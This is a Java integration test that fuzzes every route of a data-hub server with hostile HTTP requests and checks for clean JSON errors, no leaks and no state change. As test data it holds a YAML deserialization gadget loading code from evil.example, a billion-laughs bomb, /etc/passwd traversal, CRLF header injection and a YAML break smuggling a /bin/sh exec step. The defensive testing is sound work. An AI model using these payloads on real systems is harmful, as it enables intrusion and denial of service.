package de.datenhafen.distribution;

import static org.assertj.core.api.Assertions.assertThat;

import de.datenhafen.testkit.HubClient;
import de.datenhafen.testkit.RawHttp;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * A corpus of hostile requests against every route of the packaged hub started with {@code --demo}: the hub's own
 * routes and every plugin path, as the OpenAPI document lists them. Whatever is sent, the answer is never a 5xx,
 * an error is always a JSON object with an {@code error}, no response header appears that the hub does not set on
 * purpose, no stack or database text leaks, and nothing an admin sees (plugins, integrations, subscriptions) changes.
 */
class HostileRequestsIT {

    /** Every response header the hub or a plugin sets on purpose; anything else was echoed from a request. */
    private static final Set<String> ALLOWED_HEADERS = Set.of("content-type", "content-length", "transfer-encoding",
        "connection", "x-request-id", "x-content-type-options", "content-security-policy", "cache-control",
        "retry-after", "www-authenticate", "vary", "content-encoding", "allow", "etag", "last-modified", "location",
        "content-disposition", "access-control-allow-origin",
        // the media types a route takes, with its 415 (RFC 5789's Accept-Patch, and Accept-Post)
        "accept-post", "accept-patch");
    /** Paths whose answer never ends (server-sent events): probed by EventsStreamTest, not here. */
    private static final Set<String> STREAMS = Set.of("/api/v1/events/stream");
    private static final List<String> LEAKS = List.of("Exception", "\tat ", "at de.datenhafen", "org.h2", "SQL",
        "INSERT ", "SELECT ");

    private static DemoHub hub;

    @BeforeAll
    static void startTheDemo() throws Exception {
        hub = DemoHub.shared();
    }

    /** One route: method and a concrete path (path parameters filled with names that exist nowhere). */
    record Route(String method, String path, boolean admin) {
    }

    /** One hostile request built for a route. */
    record Probe(String name, byte[] request) {
    }

    @Test
    void everyRouteAnswersEveryHostileRequestWithAClearJsonErrorAndNoForeignHeaders() {
        List<Route> routes = routes();
        assertThat(routes).as("routes from the OpenAPI document").hasSizeGreaterThan(40);
        assertThat(routes.stream().map(Route::path)).as("plugin routes are in").anyMatch(p -> p.startsWith("/sta/"))
            .anyMatch(p -> p.startsWith("/api/v1/plugins/core-connectors/"));
        JsonObject before = state();
        SoftAssertions soft = new SoftAssertions();
        int sent = 0;
        for (Route route : routes) {
            for (Probe probe : probes(route)) {
                long t0 = System.nanoTime();
                RawHttp.Answer a;
                try {
                    a = RawHttp.sendFrom(null, hub.port, probe.request(), Duration.ofSeconds(10));
                } catch (java.io.UncheckedIOException e) {
                    soft.fail(route + " [" + probe.name() + "]: no answer within 10 s (" + e.getCause() + ")");
                    continue;
                }
                long ms = (System.nanoTime() - t0) / 1_000_000;
                sent++;
                soft.assertThat(ms).as(route + " [" + probe.name() + "] answered within 5 s").isLessThan(5_000);
                check(soft, route, probe.name(), a);
            }
        }
        // wrong credentials from an address of their own: the limiter may turn it away (429), nothing else
        InetAddress guesser = loopback(9);
        for (Route route : routes.stream().filter(Route::admin).toList()) {
            RawHttp.Answer a = RawHttp.sendFrom(guesser, hub.port, request(route, "Authorization: Bearer wrong-token",
                "application/json", "{}".getBytes(StandardCharsets.UTF_8)));
            sent++;
            soft.assertThat(a.status()).as(route + " with a wrong token: " + a).isIn(401, 429);
            check(soft, route, "wrong token", a);
        }
        soft.assertThat(state()).as("nothing an admin sees changed").isEqualTo(before);
        soft.assertThat(hub.client.anonymous().get("/health/ready").status()).as("still ready").isEqualTo(200);
        hub.assertAlive();
        System.out.println("HostileRequestsIT: " + sent + " hostile requests to " + routes.size() + " routes");
        soft.assertAll();
    }

    /**
     * The admin flows routes with hostile flow documents and ids, sent with the admin token so each reaches the
     * flow's own checks: every answer a 4xx with a JSON error that says what was wrong and names the field, no stack,
     * library or database text, and no flow left behind. (A body over the routes' limit is the first test's 17 MB.)
     */
    @Test
    void theFlowsRoutesAnswerHostileDocumentsAndIdsWithAJsonErrorNamingTheField() {
        String flows = "/api/v1/admin/flows";
        String yaml = "application/yaml";
        String json = "application/json";
        String goodFlow = "name: hostile\nfrom: {bus: city.x}\nsteps:\n  - log: seen\n";
        StringBuilder bomb = new StringBuilder("name: lol\nfrom: {bus: city.x}\nsteps:\n  - log: &a lol\n");
        for (int i = 0; i < 9; i++) {
            bomb.append("  - log: &").append((char) ('b' + i)).append(" [")
                .append(String.join(", ", java.util.Collections.nCopies(9, "*" + (char) ('a' + i)))).append("]\n");
        }
        JsonArray manySamples = new JsonArray();
        for (int i = 0; i < 101; i++) {
            manySamples.add(new JsonObject().put("type", "city.x").put("data", new JsonObject().put("n", i)));
        }
        Map<String, RawHttp.Answer> answers = new java.util.LinkedHashMap<>();
        answers.put("YAML over 64 KiB", flowRequest("POST", flows, yaml,
            goodFlow + "# " + "x".repeat(70_000) + "\n"));
        answers.put("YAML nested 500 deep", flowRequest("POST", flows, yaml,
            "name: deep\nfrom: " + "[".repeat(500) + "]".repeat(500) + "\n"));
        answers.put("JSON nested 5,000 deep", flowRequest("POST", flows, json,
            "{\"definition\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"));
        answers.put("anchors and aliases (billion laughs)", flowRequest("POST", flows, yaml, bomb.toString()));
        answers.put("a Java tag", flowRequest("POST", flows, yaml,
            "name: tag\nfrom: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://evil.example/\"]]]]\n"));
        answers.put("wrong content type", flowRequest("POST", flows, "text/plain", goodFlow));
        answers.put("invalid JSON", flowRequest("POST", flows, json, "{\"definition\": \"name: x\", "));
        answers.put("JSON that is not an object", flowRequest("POST", flows, json, "[\"name: x\"]"));
        answers.put("definition not text", flowRequest("POST", flows, json, "{\"definition\": {\"name\": 1}}"));
        answers.put("101 sample events for validate", flowRequest("POST", flows + "/validate", json,
            new JsonObject().put("definition", goodFlow).put("events", manySamples).encode()));
        answers.put("a sample event of 1.5 MB for validate", flowRequest("POST", flows + "/validate", json,
            new JsonObject().put("definition", goodFlow).put("events", new JsonArray().add(new JsonObject()
                .put("type", "city.x").put("data", new JsonObject().put("big", "x".repeat(1_500_000))))).encode()));
        answers.put("samples that are not a list", flowRequest("POST", flows + "/validate", json,
            new JsonObject().put("definition", goodFlow).put("events", "all of them").encode()));
        answers.put("unknown template", flowRequest("POST", flows, json,
            "{\"template\": \"../../etc/passwd\", \"parameters\": {}}"));
        answers.put("template parameter with a YAML break", flowRequest("POST", flows, json, new JsonObject()
            .put("template", "co2-alert-webhook").put("parameters", new JsonObject().put("name", "x")
                .put("school", "sim-01\n  - exec: {executable: /bin/sh}").put("url", "https://a.example/"))
            .encode()));
        for (String id : List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%00b", "%C0%AE%C0%AE", "x".repeat(300),
            "hostile%0d%0aSet-Cookie:%20a=b")) {
            answers.put("GET flow id " + abbreviated(id), flowRequest("GET", flows + "/" + id, null, null));
            answers.put("PUT flow id " + abbreviated(id), flowRequest("PUT", flows + "/" + id, yaml, goodFlow));
            answers.put("rollback of flow id " + abbreviated(id), flowRequest("POST", flows + "/" + id + "/rollback",
                json, "{\"version\": -1}"));
            answers.put("DELETE flow id " + abbreviated(id), flowRequest("DELETE", flows + "/" + id, null, null));
        }

        SoftAssertions soft = new SoftAssertions();
        answers.forEach((probe, a) -> {
            String what = probe + ": " + a;
            soft.assertThat(a.status()).as(what).isBetween(400, 499);
            soft.assertThat(a.header("content-type")).as(what).startsWith("application/json");
            JsonObject body;
            try {
                body = new JsonObject(a.body());
            } catch (RuntimeException e) {
                soft.fail(what + ": the error is not a JSON object");
                return;
            }
            soft.assertThat(body.getString("error")).as(what).isNotBlank();
            soft.assertThat(body.getString("field")).as(what + ": names the field").isNotBlank();
            for (String leak : FLOW_LEAKS) {
                soft.assertThat(a.body()).as(what + " leaks internals").doesNotContain(leak);
            }
        });
        soft.assertThat(hub.client.get(flows).jsonArray().stream().map(o -> ((JsonObject) o).getString("name")))
            .as("no flow was stored").doesNotContain("hostile", "lol", "tag", "deep", "x");
        soft.assertThat(hub.client.anonymous().get("/health/ready").status()).as("still ready").isEqualTo(200);
        System.out.println("HostileRequestsIT: " + answers.size() + " hostile flow requests");
        soft.assertAll();
    }

    /** What an answer about a flow document must not show: stacks, databases, the parsers' own words. */
    private static final List<String> FLOW_LEAKS = List.of("Exception", "\tat ", "at de.datenhafen", "org.h2",
        "SQL", "INSERT ", "SELECT ", "snakeyaml", "jackson", "io.netty", "io.vertx", "StreamRead");

    private static RawHttp.Answer flowRequest(String method, String path, String contentType, String body) {
        byte[] bytes = body == null ? null : body.getBytes(StandardCharsets.UTF_8);
        return contentType == null
            ? RawHttp.sendFrom(null, hub.port, raw(method, path, bytes, "Authorization: Bearer " + DemoHub.TOKEN),
                Duration.ofSeconds(10))
            : RawHttp.sendFrom(null, hub.port, raw(method, path, bytes, "Authorization: Bearer " + DemoHub.TOKEN,
                "Content-Type: " + contentType), Duration.ofSeconds(10));
    }

    private static String abbreviated(String s) {
        return s.length() > 30 ? s.substring(0, 30) + "..." : s;
    }

    private static void check(SoftAssertions soft, Route route, String probe, RawHttp.Answer a) {
        String what = route.method() + " " + route.path() + " [" + probe + "]: " + a;
        soft.assertThat(a.status()).as(what).isLessThan(500);
        for (String header : a.headers().keySet()) {
            soft.assertThat(ALLOWED_HEADERS).as(what + " sets header " + header).contains(header);
        }
        if (a.status() >= 400) {
            soft.assertThat(a.header("content-type")).as(what).startsWith("application/json");
            try {
                JsonObject body = new JsonObject(a.body());
                soft.assertThat(body.getString("error")).as(what).isNotBlank();
            } catch (RuntimeException e) {
                soft.fail(what + ": the error is not a JSON object");
            }
        }
        // the product's name may appear in the hub's own texts (the API document names PostgreSQL); SQL elsewhere not
        String body = a.body().replace("PostgreSQL", "");
        for (String leak : LEAKS) {
            soft.assertThat(body).as(what + " leaks internals").doesNotContain(leak);
        }
    }

    /** The hostile requests for one route. */
    private static List<Probe> probes(Route route) {
        String auth = route.admin() ? "Authorization: Bearer " + DemoHub.TOKEN : null;
        List<Probe> out = new ArrayList<>();
        byte[] brokenJson = "{not json".getBytes(StandardCharsets.UTF_8);
        out.add(new Probe("internal and echo-bait names in query and headers", raw(route.method(),
            route.path() + "?Set-Cookie=session%3Dstolen&Refresh=0%3Burl%3Dhttps%3A%2F%2Fevil.example"
                + "&DatenhafenEventSource=%2Fair-quality&CamelHttpResponseCode=200&Location=https%3A%2F%2Fevil.example",
            brokenJson, auth, "Content-Type: application/json", "X-Echo-Me: 1", "Set-Cookie: a=b", "Refresh: 0",
            "DatenhafenEventId: forged", "DatenhafenEventTime: yesterday", "ce-time: yesterday",
            "X-Subject: " + "s".repeat(2000), "Access-Control-Allow-Credentials: true")));
        out.add(new Probe("form-encoded body", raw(route.method(), route.path(), "a=b&c=%zz&Set-Cookie=x"
            .getBytes(StandardCharsets.UTF_8), auth, "Content-Type: application/x-www-form-urlencoded")));
        out.add(new Probe("no content type, NUL and invalid UTF-8", raw(route.method(), route.path(),
            new byte[] {'{', '"', 'a', 0, '"', ':', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '}'}, auth)));
        out.add(new Probe("JSON nested 100,000 deep", raw(route.method(), route.path(),
            "[".repeat(100_000).getBytes(StandardCharsets.UTF_8), auth, "Content-Type: application/json")));
        out.add(new Probe("CloudEvents content type with a broken body", raw(route.method(), route.path(),
            "[{\"specversion\":null}]".getBytes(StandardCharsets.UTF_8), auth,
            "Content-Type: application/cloudevents-batch+json")));
        out.add(new Probe("query of 8 KB", raw(route.method(), route.path() + "?q=" + "%41".repeat(2700), null,
            auth)));
        out.add(new Probe("OData-looking options", raw(route.method(), route.path()
            + "?$expand=" + "Datastreams/Thing/".repeat(30) + "Datastreams&$top=999999999&$filter=result%20gt%201e308"
            + "%20mul%2010&limit=999999999&per_page=-1&window=99999999", null, auth)));
        if (!route.method().equals("GET") && !route.method().equals("DELETE")) {
            out.add(new Probe("body of 17 MB", raw(route.method(), route.path(), big(), auth,
                "Content-Type: application/json")));
        }
        if (route.path().contains("no/such/thing")) {
            out.add(new Probe("encoded traversal", raw(route.method(), route.path().replace("no/such/thing",
                "%2e%2e/%2e%2e/%2e%2e/etc/passwd"), null, auth)));
        }
        return out;
    }

    private static byte[] bigBody;

    private static synchronized byte[] big() {
        if (bigBody == null) {
            bigBody = new byte[17 * 1024 * 1024];
            java.util.Arrays.fill(bigBody, (byte) 'x');
            bigBody[0] = '"';
            bigBody[bigBody.length - 1] = '"';
        }
        return bigBody;
    }

    private static byte[] request(Route route, String authHeader, String contentType, byte[] body) {
        return raw(route.method(), route.path(), body, authHeader, "Content-Type: " + contentType);
    }

    private static byte[] raw(String method, String target, byte[] body, String authHeader, String... headers) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        StringBuilder head = new StringBuilder(method).append(' ').append(target).append(" HTTP/1.1\r\n")
            .append("Host: evil.example\r\nConnection: close\r\n");
        if (authHeader != null) {
            head.append(authHeader).append("\r\n");
        }
        for (String h : headers) {
            head.append(h).append("\r\n");
        }
        if (body != null) {
            head.append("Content-Length: ").append(body.length).append("\r\n");
        }
        head.append("\r\n");
        out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
        if (body != null) {
            out.writeBytes(body);
        }
        return out.toByteArray();
    }

    /** Every method and path of the OpenAPI document, the plugins' included, with made-up path parameters. */
    private static List<Route> routes() {
        JsonObject paths = hub.client.anonymous().get("/api/v1/openapi.json").json().getJsonObject("paths");
        List<Route> out = new ArrayList<>();
        for (String path : new TreeMap<>(paths.getMap()).keySet()) {
            if (STREAMS.contains(path) || path.equals("/api/v1/plugins/{plugin}/{path}")) {
                continue; // the pattern entry; the plugins' real paths are listed one by one
            }
            String concrete = path.replace("{subpath}", "no/such/thing").replaceAll("\\{([^}]+)}", "no-such-$1");
            boolean admin = path.startsWith("/api/v1/admin/") || path.startsWith("/api/v1/events");
            for (String method : paths.getJsonObject(path).fieldNames()) {
                if (Set.of("get", "put", "post", "delete", "patch").contains(method)) {
                    out.add(new Route(method.toUpperCase(Locale.ROOT), concrete, admin));
                }
            }
        }
        return out;
    }

    /** What an admin sees: plugins and their states, integrations and their configs, subscriptions. */
    private static JsonObject state() {
        HubClient client = hub.client;
        JsonArray plugins = new JsonArray();
        for (Object o : client.get("/api/v1/admin/plugins").jsonArray()) {
            JsonObject p = (JsonObject) o;
            plugins.add(new JsonObject().put("id", p.getString("id")).put("state", p.getString("state")));
        }
        JsonArray integrations = new JsonArray();
        for (Object o : client.get("/api/v1/admin/integrations").jsonArray()) {
            JsonObject i = (JsonObject) o;
            integrations.add(new JsonObject().put("name", i.getString("name")).put("state", i.getString("state"))
                .put("config", i.getJsonObject("config")));
        }
        HubClient.Response subscriptions = client.get("/api/v1/admin/subscriptions");
        JsonArray names = new JsonArray();
        if (subscriptions.status() == 200) {
            for (Object o : subscriptions.jsonArray()) {
                names.add(((JsonObject) o).getString("name"));
            }
        }
        return new JsonObject().put("plugins", plugins).put("integrations", integrations)
            .put("subscriptions", names);
    }

    private static InetAddress loopback(int last) {
        try {
            return InetAddress.getByAddress(new byte[] {127, 0, 0, (byte) last});
        } catch (java.net.UnknownHostException e) {
            throw new IllegalStateException(e);
        }
    }

}
